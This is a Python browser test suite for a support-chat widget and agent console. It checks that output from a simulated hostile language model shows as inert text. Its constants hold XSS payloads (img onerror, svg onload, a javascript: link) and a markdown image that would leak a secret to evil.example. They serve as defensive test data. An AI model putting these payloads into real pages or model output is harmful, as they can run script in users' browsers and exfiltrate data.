"""Model output in a real browser: SECURITY.md #10 for what the LLM writes.

The server answers with a generative model (a real OpenAI-protocol server on loopback,
:mod:`fake_openai`); the customer uses the real widget on the server's ``/demo`` page in
Debian's Chromium (``/usr/bin/chromium``, driven by Playwright, never downloaded), and an
agent reads the same conversation in the console.

The model is hostile: besides a correctly cited answer it writes an XSS and exfiltration
corpus (HTML with event handlers, a ``javascript:`` link, a markdown image that would leak
data to another host, a foreign URL). Whether it arrives streamed token by token, from the
history after a reload, live in the console or in the console's server-rendered page, it
must show as text: no dialog, no element with an event handler, no request to any host
but the assistant server. And when the model stalls mid-answer, the text it already
streamed is withdrawn and the offline answer takes its place, once.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from chromium import (
    BROWSER_MARKS,
    OPEN_SHADOW_ROOTS,
    WatchedPage,
    ask,
    open_chat,
    open_page,
    sync_api,
)
from conftest import auth, make_agent
from fake_openai import FakeOpenAI, Reply, Scripted, fake_openai, user_prompt

pytestmark = BROWSER_MARKS

QUESTION = "Can I get a refund on an annual plan?"
REFUNDS_URL = "https://help.example.test/billing/refunds"
EXTRACTIVE = "Annual plans can be refunded in full within 14 days of purchase."
XSS_IMG = "<img src=x onerror=alert(1)>"
XSS_SVG = "<svg onload=alert(2)>"
XSS_LINK = "[click](javascript:alert(3))"
EXFIL_IMAGE = "![p](https://evil.example/p.png?d=secret)"
FOREIGN_URL = "https://evil.example/x"
# A grounded, cited answer (the guard keeps it) carrying the corpus; about 60 tokens.
HOSTILE_ANSWER = (
    "Annual plans can be refunded in full within 14 days of purchase [{id}]. "
    "To request a refund, write to billing with your invoice number [{id}]. "
    f"{XSS_IMG} {XSS_SVG} {XSS_LINK} {EXFIL_IMAGE} "
    f"More details are at {FOREIGN_URL} if you need them. Thank you for asking, and have "
    "a good day."  # the guard holds back 8 words: these let the URL stream too
)
# The hand-off summary the model writes for agents, hostile too.
HOSTILE_SUMMARY = (
    f"- Customer asks about refunds {XSS_IMG}\n"
    f"- Mood: calm {XSS_SVG} {XSS_LINK}\n"
    f"- See {EXFIL_IMAGE} and {FOREIGN_URL}"
)
# Records, in the widget's frame, every state of the assistant bubbles (text and whether
# still pending) and every element that carries an event-handler attribute or could fetch
# (img, svg, script, iframe...), whenever the message log changes.
WATCH_LOG = """() => {
  window.__states = [];
  window.__dangerous = [];
  const log = document.getElementById("log");
  const FETCHERS = "img, svg, script, iframe, object, embed, video, audio, source, link, style";
  const check = (root) => {
    if (!(root instanceof Element)) return; // text
    for (const el of [root, ...root.querySelectorAll("*")]) {
      const handlers = [...el.attributes].filter((a) => a.name.toLowerCase().startsWith("on"));
      if (handlers.length || el.matches(FETCHERS)) window.__dangerous.push(el.outerHTML);
    }
  };
  new MutationObserver((mutations) => {
    for (const m of mutations) for (const node of m.addedNodes) check(node);
    window.__states.push([...log.querySelectorAll(".msg-assistant")].map((el) => ({
      pending: el.classList.contains("pending"),
      text: el.querySelector(".text").textContent,
    })));
  }).observe(log, { childList: true, subtree: true, characterData: true });
}"""
HANDLER_ELEMENTS = """() => [...document.querySelectorAll("*")]
  .filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith("on")))
  .map((el) => el.outerHTML)"""


@pytest.fixture
def llm() -> Iterator[FakeOpenAI]:
    with fake_openai() as fake:
        yield fake


@pytest.fixture
def llm_timeout() -> float:
    """The model's deadline; the reset test parametrizes a short one."""
    return 10.0


@pytest.fixture
def settings(settings, llm: FakeOpenAI, llm_timeout: float):
    """The shared test settings with the loopback model as the answerer (so ``runtime`` and
    ``live_server`` answer with it)."""
    return settings.model_copy(update={
        "llm_base_url": llm.url, "llm_model": "test-model",
        "llm_timeout_seconds": llm_timeout, "llm_max_retries": 0,
    })


def source_id(body: dict[str, Any], title: str) -> str:
    """The id (``S1``...) the prompt gave the passage of article ``title``."""
    found = re.search(rf'<passage id="(S\d+)" title="{re.escape(title)}"', user_prompt(body))
    assert found, f"no passage titled {title!r} in the prompt"
    return found.group(1)


def hostile_model(trickle: float) -> Any:
    """A model that answers questions with HOSTILE_ANSWER and summaries with
    HOSTILE_SUMMARY, ``trickle`` seconds per token."""

    def respond(body: dict[str, Any]) -> Reply:
        if "<passage id=" in user_prompt(body):
            return Scripted(text=HOSTILE_ANSWER.format(id=source_id(body, "Refunds")),
                            trickle=trickle)
        return HOSTILE_SUMMARY

    return respond


class Browser(WatchedPage):
    """A Chromium page that records the hosts it sends requests to."""

    def __init__(self, page: Any) -> None:
        super().__init__(page)
        self.requests: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))

    def foreign_requests(self, base_url: str) -> list[str]:
        """Requests to anything but the assistant server (data: URLs aside)."""
        ours = urlsplit(base_url).netloc
        return [url for url in self.requests
                if urlsplit(url).scheme != "data" and urlsplit(url).netloc != ours]

    def frame(self) -> Any:
        """The widget's frame, to run the recorder in it."""
        return next(f for f in self.page.frames if "/widget/frame" in f.url)


@pytest.fixture
def browser() -> Iterator[Browser]:
    with open_page(Browser, viewport={"width": 1200, "height": 800},
                   init_script=OPEN_SHADOW_ROOTS) as browser:
        yield browser




def assert_nothing_ran(browser: Browser, base_url: str) -> None:
    assert browser.dialogs == [], f"model output ran as script: {browser.dialogs}"
    assert browser.foreign_requests(base_url) == []
    assert browser.problems() == [], browser.problems()


def assert_hostile_answer_shown_as_text(log: Any) -> None:
    """The final bubble: the cited answer with its source, the corpus as inert text."""
    expect = sync_api.expect
    answer = log.locator(".msg-assistant")
    expect(answer).to_have_count(1)
    expect(answer).not_to_have_class(re.compile(r"\bpending\b"))
    expect(answer).to_contain_text(
        "Annual plans can be refunded in full within 14 days of purchase [1].")
    source = answer.get_by_role("link", name="Refunds")
    expect(source).to_have_attribute("href", REFUNDS_URL)
    expect(source).to_have_attribute("rel", "noopener noreferrer")
    # HTML arrives as text; the guard took the javascript: link's target, the image and
    # the foreign URL out; the only link is the source's.
    expect(answer).to_contain_text(XSS_IMG)
    expect(answer).to_contain_text(XSS_SVG)
    expect(answer).to_contain_text("(link removed)")
    expect(answer).not_to_contain_text("evil.example")
    expect(answer).not_to_contain_text("javascript:")
    expect(answer.locator("a")).to_have_count(1)
    expect(log.locator("img, svg, script, [onerror], [onload]")).to_have_count(0)


def test_a_hostile_streamed_answer_shows_as_it_is_written_and_only_as_text(
    live_server, runtime, llm: FakeOpenAI, browser: Browser
) -> None:
    expect = sync_api.expect
    page, base = browser.page, live_server.url
    llm.responder = hostile_model(trickle=0.05)
    page.goto(f"{base}/demo")
    frame = open_chat(page)
    browser.frame().evaluate(WATCH_LOG)
    log = frame.get_by_role("log")

    ask(frame, QUESTION)
    # While the model writes, its checked text grows in a pending bubble.
    pending = log.locator(".msg-assistant.pending")
    expect(pending).to_contain_text("Annual plans can be refunded")
    assert_hostile_answer_shown_as_text(log)
    expect(log.locator(".pending")).to_have_count(0)

    states = browser.frame().evaluate("window.__states")
    streamed = [s[0]["text"] for s in states if len(s) == 1 and s[0]["pending"]]
    assert len(set(streamed)) >= 3, f"the answer did not stream: {streamed}"
    assert all(b.startswith(a) for a, b in itertools.pairwise(streamed)), streamed
    # The streamed text went through the same guard as the final one: the corpus was
    # text there too, and nothing foreign was ever on screen.
    assert XSS_IMG in streamed[-1] and XSS_SVG in streamed[-1], streamed[-1]
    assert "(link removed)" in streamed[-1], streamed[-1]
    assert not any("evil.example" in text or "javascript:" in text for text in streamed)
    assert len(streamed[0]) < len(streamed[-1])
    assert all(len(s) <= 1 for s in states), f"two answers at once: {states}"
    assert browser.frame().evaluate("window.__dangerous") == []
    assert browser.frame().evaluate(HANDLER_ELEMENTS) == []

    (reply,) = [m for m in runtime.store.list_messages(conversation_id=_conversation(runtime))
                if m.role == "assistant"]
    assert reply.annotations["answerer"] == "llm" and reply.annotations["fallback"] is None

    # From the history after a reload: the same, once, and still inert.
    page.reload()
    frame = open_chat(page)
    log = frame.get_by_role("log")
    expect(log.locator(".msg-customer", has_text=QUESTION)).to_have_count(1)
    assert_hostile_answer_shown_as_text(log)
    assert browser.frame().evaluate(HANDLER_ELEMENTS) == []

    assert_nothing_ran(browser, base)


STALLED = "Your annual plan qualifies for a refund because "  # not the offline answer


@pytest.mark.parametrize("llm_timeout", [2.5])
def test_a_model_that_stalls_midway_is_withdrawn_for_the_offline_answer(
    live_server, runtime, llm: FakeOpenAI, browser: Browser
) -> None:
    expect = sync_api.expect
    page, base = browser.page, live_server.url
    # A few words get through the guard, then the model is still writing when the 2.5 s
    # deadline passes.
    llm.replies = [Scripted(text=STALLED * 30, trickle=0.2)]
    page.goto(f"{base}/demo")
    frame = open_chat(page)
    browser.frame().evaluate(WATCH_LOG)
    log = frame.get_by_role("log")

    ask(frame, QUESTION)
    answer = log.locator(".msg-assistant")
    expect(answer).to_contain_text(EXTRACTIVE)
    expect(answer).to_have_count(1)
    expect(answer.get_by_role("link", name="Refunds")).to_have_attribute("href", REFUNDS_URL)
    expect(answer).not_to_contain_text("qualifies")
    expect(log.locator(".pending")).to_have_count(0)

    # What it showed: the model's words growing in a pending bubble, then (at "reset")
    # no answer at all, then only the offline answer. The server stores that answer
    # between "reset" and "done", so the two arrive apart and the gap is seen.
    states = browser.frame().evaluate("window.__states")
    assert all(len(s) <= 1 for s in states), f"two answers at once: {states}"
    texts = [s[0]["text"] if s else None for s in states]
    stalled = [i for i, text in enumerate(texts) if text and STALLED.startswith(text)]
    assert stalled, f"the model's text never showed before the deadline: {states}"
    assert all(states[i][0]["pending"] for i in stalled), states
    after = texts[stalled[-1] + 1 :]
    assert after and after[0] is None, f"the streamed text was not withdrawn: {states}"
    assert after[-1] is not None and all(
        text is None or text.startswith(EXTRACTIVE) for text in after), states
    assert browser.frame().evaluate("window.__dangerous") == []

    (reply,) = [m for m in runtime.store.list_messages(conversation_id=_conversation(runtime))
                if m.role == "assistant"]
    assert (reply.annotations["answerer"], reply.annotations["fallback"]) == (
        "extractive", "timeout")

    # After a reload, the stored answer only.
    page.reload()
    frame = open_chat(page)
    answer = frame.get_by_role("log").locator(".msg-assistant")
    expect(answer).to_have_count(1)
    expect(answer).to_contain_text(EXTRACTIVE)
    expect(answer).not_to_contain_text("qualifies")

    assert_nothing_ran(browser, base)


def _conversation(runtime: Any) -> str:
    """The id of the only conversation (the test's)."""
    (event,) = runtime.store.list_events(type="conversation.started")
    return event.conversation_id


def test_the_console_shows_hostile_model_output_as_text(
    live_server, runtime, llm: FakeOpenAI
) -> None:
    expect = sync_api.expect
    base = live_server.url
    llm.responder = hostile_model(trickle=0.0)
    agent = make_agent(runtime)
    with open_page(Browser) as browser, httpx.Client(base_url=base, timeout=20) as http:
        page = browser.page
        page.goto(f"{base}/console/login")
        page.get_by_label("Email").fill(agent.email)
        page.get_by_label("Password").fill(agent.password)
        page.get_by_role("button", name="Sign in").click()
        expect(page).to_have_url(f"{base}/console")

        conversation = http.post("/v1/conversations", json={}).json()
        messages = f"/v1/conversations/{conversation['id']}/messages"
        customer = auth(conversation["token"])
        page.goto(f"{base}/console/conversations/{conversation['id']}")
        expect(page.locator("#live-state")).to_have_text("Live")
        page.evaluate("window.__sameDocument = true")  # gone if the page reloads

        # The bot's hostile answer arrives live (console.js builds it with textContent).
        sent = http.post(messages, json={"text": QUESTION}, headers=customer)
        assert sent.status_code == 200, sent.text
        bot_text = sent.json()["reply"]["text"]
        assert XSS_IMG in bot_text and "evil.example" not in bot_text, bot_text
        transcript = page.locator("#transcript")
        live = transcript.locator(".msg-assistant")
        expect(live).to_have_count(1)
        expect(live.locator(".msg-text")).to_have_text(bot_text)
        assert page.evaluate("window.__sameDocument") is True
        assert page.evaluate(HANDLER_ELEMENTS) == []

        # A hand-off: the model's hostile summary is in the context panel of the page the
        # server renders: markup shown as text, foreign links and images removed.
        handed = http.post(messages, json={"text": "I want to talk to a human"},
                           headers=customer)
        assert handed.status_code == 200 and handed.json()["handoff"], handed.text
        page.reload()
        expect(page.locator("#live-state")).to_have_text("Live")
        expect(transcript.locator(".msg-assistant .msg-text").first).to_have_text(bot_text)
        summary = page.locator(".context .summary li")
        expect(summary.filter(has_text=XSS_IMG)).to_have_count(1)
        expect(summary.filter(has_text="Mood: calm")).to_have_count(1)
        expect(page.locator(".context .summary")).not_to_contain_text("evil.example")
        expect(page.locator(".context .summary")).not_to_contain_text("javascript:")
        expect(page.locator("main")).to_have_count(1)
        expect(page.locator("main img, main svg, main script")).to_have_count(0)
        assert page.evaluate(HANDLER_ELEMENTS) == []
        assert len(llm.requests) == 2  # the answer and the summary, both by the model

        assert_nothing_ran(browser, base)
